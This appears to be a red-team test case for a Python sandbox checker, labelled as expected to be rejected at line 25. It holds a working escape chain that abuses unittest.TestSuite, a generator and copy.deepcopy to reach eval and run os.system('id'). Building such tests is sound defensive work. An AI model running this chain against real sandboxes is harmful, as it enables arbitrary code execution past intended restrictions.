# expect: reject method
# line: 25
# verified: reaches its goal under plain python3 (3.11) in a temp dir (type, eval, id run)
# why: fourteenth red team (14b), family T: ours: addTests(tests()) with tests a generator function that yields a class and returns a suite: a def with a yield returns a generator, never what its return says

import unittest
import typing
import copy

class Res:
    shouldStop = False

    def previous(self):
        return self._previousTestClass

class Plain:
    def __init__(self, result):
        self.r = result

def tests():
    yield Plain
    return unittest.TestSuite()

s = unittest.TestSuite()
s.addTests(tests())
r = Res()
s.run(r)
T = r.previous()
Alias = T(typing.List[int])
ev = copy.deepcopy(Alias(int, ("eval",), name="__builtins__"))
ev("__import__(\"os\").system(\"id\")")
